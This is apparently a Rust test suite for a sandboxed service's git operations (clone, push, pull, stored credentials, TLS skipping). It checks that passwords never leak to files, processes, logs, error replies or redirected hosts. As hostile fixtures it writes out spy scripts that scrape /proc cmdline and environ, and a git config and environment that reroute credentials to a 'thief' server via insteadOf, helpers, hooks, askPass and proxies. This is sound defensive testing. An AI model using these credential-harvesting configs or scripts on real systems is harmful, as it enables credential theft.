//! Credentials for git: who gets to see them, and over what connections.

#[path = "harness/git_server.rs"]
mod git_server;
mod harness;

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use git_server::{GitServer, PASSWORD, USER, git};
use harness::{Toolbox, read};
use memchr::memmem;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

/// The forms of the password in a file or in a list of arguments.
fn forms_of_the_password() -> Vec<Vec<u8>> {
    let encoded = percent_encoding::utf8_percent_encode(PASSWORD, percent_encoding::NON_ALPHANUMERIC).to_string();
    let basic = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, format!("{USER}:{PASSWORD}"));
    // Quotes and backslashes may be escaped, so the beginning counts as well.
    vec![PASSWORD.into(), b"s3cret".to_vec(), encoded.into(), basic.into()]
}

fn holds_the_password(bytes: &[u8]) -> bool {
    forms_of_the_password().iter().any(|form| memmem::find(bytes, form).is_some())
}

/// Files below `directory` that hold the password.
fn files_with_the_password(directory: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![directory.to_owned()];
    while let Some(directory) = pending.pop() {
        for entry in std::fs::read_dir(directory).unwrap().flatten() {
            if entry.file_type().unwrap().is_dir() {
                pending.push(entry.path());
            } else if std::fs::read(entry.path()).is_ok_and(|content| holds_the_password(&content)) {
                found.push(entry.path());
            }
        }
    }
    found
}

/// Lists of processes' arguments and variables that hold the password; and how many processes of git there were.
fn processes_with_the_password() -> (Vec<String>, usize) {
    let mut found = Vec::new();
    let mut gits = 0;
    for process in std::fs::read_dir("/proc").unwrap().flatten().map(|entry| entry.path()) {
        if std::fs::read_to_string(process.join("comm")).is_ok_and(|name| name.starts_with("git")) {
            gits += 1;
        }
        for list in ["cmdline", "environ"] {
            let list = process.join(list);
            if std::fs::read(&list).is_ok_and(|content| holds_the_password(&content)) {
                found.push(list.display().to_string());
            }
        }
    }
    (found, gits)
}

/// Everything the toolbox logs.
#[derive(Clone, Default)]
struct Logs(Arc<Mutex<Vec<u8>>>);

impl Write for Logs {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn authorised(mut fields: Value) -> Value {
    fields["username"] = json!(USER);
    fields["password"] = json!(PASSWORD);
    fields
}

#[tokio::test]
async fn a_password_reaches_no_file_no_argument_no_variable_no_log_and_no_error() {
    let logs = Logs::default();
    let writer = logs.clone();
    let subscriber = tracing_subscriber::fmt().with_env_filter("trace").with_writer(move || writer.clone()).finish();
    let _ = tracing_subscriber::util::SubscriberInitExt::try_init(subscriber);

    let seen = Arc::<Mutex<(Vec<String>, usize)>>::default();
    let observed = Arc::clone(&seen);
    let server = GitServer::observed(move || {
        let (found, gits) = processes_with_the_password();
        let mut observed = observed.lock().unwrap();
        observed.0.extend(found);
        observed.1 += gits;
    })
    .await;
    server.create("a.git", 1);
    let toolbox = Toolbox::start();
    // A program that the helper would run if it were found first.
    let spy = tempfile::tempdir().unwrap();
    let (pattern, report) = (spy.path().join("pattern"), spy.path().join("report"));
    std::fs::write(&pattern, "s3cret\n").unwrap();
    let script = format!(
        "#!/bin/sh\necho looked >> {1}\ngrep -alF -f {0} /proc/[0-9]*/cmdline /proc/[0-9]*/environ >> {1} 2>/dev/null\nexec /bin/cat\n",
        pattern.display(),
        report.display()
    );
    std::fs::write(spy.path().join("cat"), script).unwrap();
    std::fs::set_permissions(spy.path().join("cat"), PermissionsExt::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", spy.path().display(), std::env::var("PATH").unwrap());
    toolbox.post("/env", json!({"set": {"PATH": path}})).await;

    let url = server.url("a.git");
    let send = async |operation: &str, fields: Value| {
        let request = toolbox.posting(&format!("/git/{operation}"), &fields);
        let (status, answer) = read(request.send().await.unwrap()).await;
        assert!(!holds_the_password(answer.to_string().as_bytes()), "{operation}: {answer}");
        status
    };
    assert_eq!(send("clone", authorised(json!({"url": url, "path": "mine"}))).await, StatusCode::OK);
    let commit = json!({"path": "mine", "message": "m", "author": "a", "email": "e", "allow_empty": true});
    assert_eq!(send("commit", commit).await, StatusCode::OK);
    assert_eq!(send("push", authorised(json!({"path": "mine", "set_upstream": true}))).await, StatusCode::OK);
    assert_eq!(send("pull", authorised(json!({"path": "mine"}))).await, StatusCode::OK);
    // The server repeats the password to whoever is refused.
    let wrong = json!({"url": url, "path": "no", "username": "else", "password": PASSWORD});
    assert_eq!(send("clone", wrong).await, StatusCode::UNAUTHORIZED);
    assert_eq!(
        send("clone", authorised(json!({"url": server.url("none.git"), "path": "no"}))).await,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        send("clone", authorised(json!({"url": url, "path": "no", "branch": "none"}))).await,
        StatusCode::NOT_FOUND
    );

    assert_eq!(files_with_the_password(toolbox.home.path()), Vec::<PathBuf>::new());
    let (found, gits) = std::mem::take(&mut *seen.lock().unwrap());
    assert!(gits > 0, "git was not looked at");
    assert_eq!(found, Vec::<String>::new());
    assert!(!report.exists(), "a program of the sandbox's ran where the credentials are");
    let logs = logs.0.lock().unwrap().clone();
    assert!(!logs.is_empty(), "nothing was logged");
    assert!(!holds_the_password(&logs));
    // The next git has them no more.
    assert_eq!(send("pull", json!({"path": "mine"})).await, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn a_server_that_sends_git_elsewhere_does_not_take_the_credentials_along() {
    let (first, second) = (GitServer::start().await, GitServer::start().await);
    second.create("a.git", 1);
    let toolbox = Toolbox::start();
    let url = first.url(&format!("to/{}/a.git", second.address));
    let request = toolbox.posting("/git/clone", &authorised(json!({"url": url, "path": "mine"})));
    assert_eq!(toolbox.failure(request).await, (401, "GIT_AUTH_FAILED".into()));
    let requests = second.requests.lock().unwrap();
    assert!(requests.anonymous > 0, "git did not follow");
    assert_eq!((requests.authorised, requests.refused), (0, 0));
}

#[tokio::test]
async fn a_certificate_nobody_knows_is_refused_unless_told_to_skip_it() {
    let server = GitServer::with_tls().await;
    server.create("a.git", 1);
    let toolbox = Toolbox::start();
    let clone = |skip: Value| {
        let url = server.url("a.git");
        toolbox.posting("/git/clone", &authorised(json!({"url": url, "path": "mine", "insecure_skip_tls": skip})))
    };
    for skip in [json!(null), json!(false)] {
        assert_eq!(toolbox.failure(clone(skip)).await, (502, "GIT_TRANSPORT_FAILED".into()));
        assert!(!toolbox.path("mine").exists());
    }
    assert_eq!(server.requests.lock().unwrap().authorised, 0);
    assert_eq!(clone(json!(true)).send().await.unwrap().status(), StatusCode::OK);
    assert_eq!(std::fs::read_to_string(toolbox.path("mine/file")).unwrap(), "1\n");
    // For that one clone: what is kept does not say so.
    let config = std::fs::read_to_string(toolbox.path("mine/.git/config")).unwrap();
    assert!(!config.to_lowercase().contains("ssl"), "{config}");
}

#[tokio::test]
async fn stored_credentials_are_for_their_host_and_their_owner() {
    let server = GitServer::start().await;
    server.create("a.git", 1);
    let toolbox = Toolbox::start();
    let clone = |path: &str| toolbox.posting("/git/clone", &json!({"url": server.url("a.git"), "path": path}));
    let host = server.address.to_string();
    let body = authorised(json!({"host": host, "protocol": "http"}));
    assert_eq!(toolbox.post("/git/credentials", body).await.0, StatusCode::OK);
    // Another host's, and the same one's again.
    assert_eq!(toolbox.post("/git/credentials", json!({"username": "u", "password": "p"})).await.0, StatusCode::OK);
    let body = authorised(json!({"host": host, "protocol": "http"}));
    assert_eq!(toolbox.post("/git/credentials", body).await.0, StatusCode::OK);
    let file = toolbox.path(".git-credentials");
    let stored = std::fs::read_to_string(&file).unwrap();
    assert_eq!(stored.lines().count(), 2, "{stored}");
    assert!(stored.contains("https://u:p@github.com\n"), "{stored}");
    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(clone("mine").send().await.unwrap().status(), StatusCode::OK);
    assert!(git(&toolbox.path("mine"), &["log", "--format=%s"]).starts_with("change file"));
    for body in [
        json!({}),
        json!({"username": "u"}),
        json!({"username": "u", "password": "a\nb"}),
        json!({"username": "u", "password": "p", "host": "a/b"}),
        json!({"username": "u", "password": "p", "protocol": "x://y@"}),
    ] {
        assert_eq!(toolbox.failure(toolbox.posting("/git/credentials", &body)).await.0, 400, "{body}");
    }
    assert_eq!(toolbox.failure(toolbox.request(Method::GET, "/git/credentials")).await.0, 404);
}

/// Makes a program that notes that it ran, with what it finds in the descriptor of the credentials, and goes on as `then`.
fn spying(path: &Path, report: &Path, then: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let report = report.display();
    let script = format!(
        "#!/bin/sh\necho \"$0\" >> {report}\nif test -e /proc/self/fd/9; then cat <&9 >> {report}; fi\n{then}\n"
    );
    std::fs::write(path, script).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[tokio::test]
async fn nothing_the_sandbox_configured_gets_the_credentials() {
    let (server, thief) = (GitServer::start().await, GitServer::start().await);
    server.create("a.git", 1);
    // One more commit, so that the two never hold the same.
    thief.create("a.git", 2);
    let toolbox = Toolbox::start();
    let home = toolbox.home.path();
    let report = home.join("report");
    spying(&home.join("bin/git"), &report, "exec /usr/bin/git \"$@\"");
    for hook in ["pre-push", "post-checkout", "post-merge", "reference-transaction"] {
        spying(&home.join("hooks").join(hook), &report, "");
    }
    spying(&home.join("helper"), &report, "cat >> \"$0.got\"");
    let steals = format!(
        "[url \"{0}/\"]\n\tinsteadOf = {1}/\n\tpushInsteadOf = {1}/\n[credential]\n\thelper = {2}/helper\n\
         [core]\n\thooksPath = {2}/hooks\n\tsshCommand = {2}/helper\n\taskPass = {2}/helper\n\
         [http]\n\tproxy = {0}\n\textraHeader = \"X-Stolen: yes\"\n[alias]\n\tpush = !{2}/helper\n",
        thief.url("").trim_end_matches('/'),
        server.url("").trim_end_matches('/'),
        home.display()
    );
    std::fs::write(home.join(".gitconfig"), &steals).unwrap();
    let thief_address = thief.url("");
    let environment = json!({"set": {
        "PATH": format!("{}:{}", home.join("bin").display(), std::env::var("PATH").unwrap()),
        "GIT_TRACE_CURL": home.join("trace"), "GIT_TRACE_REDACT": "0", "GIT_ASKPASS": home.join("helper"),
        "http_proxy": thief_address, "ALL_PROXY": thief_address, "GIT_EXEC_PATH": home.join("bin"),
        "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "http.proxy", "GIT_CONFIG_VALUE_0": thief_address,
    }});
    assert_eq!(toolbox.post("/env", environment).await.0, StatusCode::OK);

    let send = async |operation: &str, fields: Value| {
        let request = toolbox.posting(&format!("/git/{operation}"), &authorised(fields));
        read(request.send().await.unwrap()).await
    };
    // Everything else works with the sandbox's own settings; GIT_EXEC_PATH would break it.
    toolbox.post("/env", json!({"unset": ["GIT_EXEC_PATH"]})).await;
    let (status, answer) = send("clone", json!({"url": server.url("a.git"), "path": "mine"})).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    let config = toolbox.path("mine/.git/config");
    let own = std::fs::read_to_string(&config).unwrap();
    assert!(own.contains(&server.url("a.git")), "{own}");
    std::fs::write(&config, format!("{own}{steals}")).unwrap();
    let commit = json!({"path": "mine", "message": "m", "author": "a", "email": "e", "allow_empty": true});
    assert_eq!(send("commit", commit).await.0, StatusCode::OK);
    for operation in ["push", "pull"] {
        let (status, answer) = send(operation, json!({"path": "mine"})).await;
        assert_eq!(status, StatusCode::OK, "{operation}: {answer}");
    }
    assert_eq!(git(&server.path("a.git"), &["log", "-1", "--format=%s", "main"]), "m");

    // Another address than the one the caller cloned from, written into the repository.
    std::fs::write(&config, own.replace(&server.url("a.git"), &thief.url("a.git"))).unwrap();
    for operation in ["push", "pull"] {
        let (status, answer) = send(operation, json!({"path": "mine"})).await;
        assert_eq!((status, &answer["code"]), (StatusCode::FORBIDDEN, &json!("FORBIDDEN")), "{answer}");
        assert!(answer["message"].as_str().unwrap().contains(&thief.address.to_string()), "{answer}");
    }
    {
        let requests = thief.requests.lock().unwrap();
        assert_eq!((requests.authorised, requests.refused), (0, 0));
    }
    // The spies did run, and found nothing.
    assert!(!std::fs::read_to_string(&report).unwrap().is_empty());
    assert_eq!(files_with_the_password(home), Vec::<PathBuf>::new());
    // A caller that means the other address says so.
    let remote = json!({"path": "mine", "name": "origin", "url": thief.url("a.git"), "overwrite": true});
    assert_eq!(toolbox.post("/git/remotes", remote).await.0, StatusCode::CREATED);
    std::fs::remove_file(home.join(".gitconfig")).unwrap();
    let (status, answer) = send("pull", json!({"path": "mine"})).await;
    assert_eq!((status, &answer["code"]), (StatusCode::CONFLICT, &json!("GIT_MERGE_CONFLICT")), "{answer}");
    assert!(thief.requests.lock().unwrap().authorised > 0);
}

/// Gives the toolbox, and it alone, the sandbox's user as its effective one and a real one of its own. Needs root.
fn with_a_user_of_its_own(home: &Path) {
    let (own, user) = (65_533, 65_534);
    std::os::unix::fs::chown(home, Some(user), Some(user)).unwrap();
    // The call itself, because the library's function changes every thread.
    // SAFETY: it takes three integers.
    let done = unsafe { libc::syscall(libc::SYS_setresuid, own, user, own) };
    assert_eq!(done, 0, "these tests change users and need root");
}

#[tokio::test]
async fn the_sandboxes_user_cannot_look_into_a_git_with_credentials() {
    let place = tempfile::tempdir().unwrap();
    std::fs::set_permissions(place.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let (report, stop) = (place.path().join("report"), place.path().join("stop"));
    let looked = {
        let report = report.clone();
        move || std::fs::read_to_string(&report).unwrap_or_default().lines().count()
    };
    let looks = looked.clone();
    let server = GitServer::observed(move || {
        // Git waits for its answer until it has been looked at.
        let (before, deadline) = (looks(), Instant::now() + Duration::from_secs(60));
        while looks() < before + 2 {
            assert!(Instant::now() < deadline, "nobody looked");
            std::thread::sleep(Duration::from_millis(5));
        }
    })
    .await;
    server.create("a.git", 1);
    let toolbox = Toolbox::start_with(None, with_a_user_of_its_own);
    toolbox.create_session("spy").await;
    // Whom to look at is known from the arguments, which everybody may read.
    let spy = format!(
        "while ! test -e {stop}; do for p in /proc/[0-9]*; do if grep -qa 'credential\\.http' $p/cmdline; then \
         if cat $p/environ > /dev/null || ls $p/fd/; then echo seen >> {report}; else echo refused >> {report}; fi; \
         fi; done; done 2> /dev/null",
        stop = stop.display(),
        report = report.display()
    );
    let command = toolbox.start_command("spy", &spy).await;
    let url = server.url("a.git");
    let clone = toolbox.posting("/git/clone", &authorised(json!({"url": url, "path": "mine"})));
    let (status, answer) = read(clone.send().await.unwrap()).await;
    std::fs::write(&stop, "").unwrap();
    toolbox.exit_code("spy", &command).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    let found = std::fs::read_to_string(&report).unwrap();
    assert!(found.lines().all(|line| line == "refused"), "{found}");
    // Files are the user's all the same.
    let file = std::fs::metadata(toolbox.path("mine/file")).unwrap();
    assert_eq!(std::os::unix::fs::MetadataExt::uid(&file), 65_534);
}
